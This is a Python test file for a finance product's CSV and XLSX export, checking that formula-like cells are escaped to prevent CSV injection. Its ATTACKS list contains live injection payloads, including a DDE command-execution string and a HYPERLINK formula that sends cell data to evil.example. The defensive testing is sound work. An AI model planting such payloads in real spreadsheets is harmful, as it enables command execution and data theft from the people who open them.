"""Spreadsheets the product writes: no cell a spreadsheet would run as a formula (CSV injection)."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from finance.core.spreadsheets import csv_bytes, is_formula_like, safe_cell, xlsx_bytes

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?d="&A1, "Refund")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "-",
]
HARMLESS = ["Corner Grocer", "ACME = Corp", "e-mail", "", "-12.50", "+3", "-1e5", "12", ".5", "café @ home"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_looking_text_is_recognised(text):
    assert is_formula_like(text)
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_plain_text_and_numbers_are_left_alone(text):
    assert not is_formula_like(text)
    assert safe_cell(text) == text


def test_csv_cells_that_would_run_start_with_an_apostrophe_and_the_rest_is_unchanged():
    rows = [
        {"payee": attack, "amount": Decimal("-12.50"), "note": None, "count": 3, "text_amount": "-7.25"}
        for attack in ATTACKS
    ]
    parsed = list(csv.DictReader(io.StringIO(csv_bytes(rows).decode())))
    assert [row["payee"] for row in parsed] == ["'" + attack for attack in ATTACKS]
    assert {(row["amount"], row["note"], row["count"], row["text_amount"]) for row in parsed} == {
        ("-12.50", "", "3", "-7.25")
    }


def test_csv_header_and_columns_follow_first_appearance():
    content = csv_bytes([{"a": 1}, {"b": "=x", "a": 2}])
    assert content == b"a,b\r\n1,\r\n2,'=x\r\n"


def test_xlsx_text_is_never_a_formula_and_keeps_its_exact_value():
    content = xlsx_bytes(
        {
            "Transactions": [
                ["payee", "amount", "date", "booked"],
                *(
                    [attack, Decimal("-12.50"), date(2026, 3, 1), datetime(2026, 3, 1, 9, tzinfo=UTC)]
                    for attack in ATTACKS
                ),
                ["Corner Grocer", 3, None, True],
            ]
        }
    )
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere in the file
    sheet = load_workbook(io.BytesIO(content))["Transactions"]
    rows = list(sheet.iter_rows(min_row=2))
    for attack, row in zip(ATTACKS, rows, strict=False):
        payee, amount, day, booked = row
        # XML reads a carriage return as a line feed; everything else is exactly the text written.
        assert (payee.value, payee.data_type, payee.quotePrefix) == (attack.replace("\r", "\n"), "s", True)
        assert (amount.value, amount.data_type) == (-12.5, "n")
        assert (day.value.date(), day.data_type) == (date(2026, 3, 1), "d")  # a workbook date reads back as a datetime
        assert (booked.value, booked.data_type) == ("2026-03-01T09:00:00+00:00", "s")
    plain = rows[-1]
    assert (plain[0].value, plain[0].quotePrefix, plain[1].value, plain[2].value, plain[3].value) == (
        "Corner Grocer",
        False,
        3,
        None,
        True,
    )
